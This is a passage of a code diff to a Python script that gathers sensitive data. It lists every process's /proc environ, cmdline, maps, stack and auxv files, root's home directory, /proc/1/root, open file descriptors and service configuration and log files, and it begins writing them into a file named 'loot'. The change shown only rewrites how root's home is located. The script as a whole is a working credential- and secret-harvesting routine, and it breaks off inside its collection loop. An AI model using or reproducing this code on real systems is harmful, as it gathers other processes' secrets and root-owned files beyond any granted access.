@@ -39,7 +39,7 @@ home, touched, libc = os.path.dirname(os.environ["T3_HOME"]), [], ctypes.CDLL(No
 places = [f"/proc/{pid}/{name}" for pid in os.listdir("/proc") if pid.isdecimal()
           for name in ("environ", "cmdline", "maps", "stack", "auxv")]
 places += [os.path.join(at, name) for at, _, names in os.walk(home) for name in names]
-places += ["/proc/1/root", *glob.glob("/root/*"), *glob.glob("/proc/self/fd/*")]
+places += ["/proc/1/root", *glob.glob(os.path.expanduser("~root/*")), *glob.glob("/proc/self/fd/*")]
 places += [os.path.join(home, name) for name in ("services.json", "embedded.json", "logs/s3.log")]
 with open(os.path.join(os.environ["HOME"], "loot"), "wb") as loot:
     for place in places:
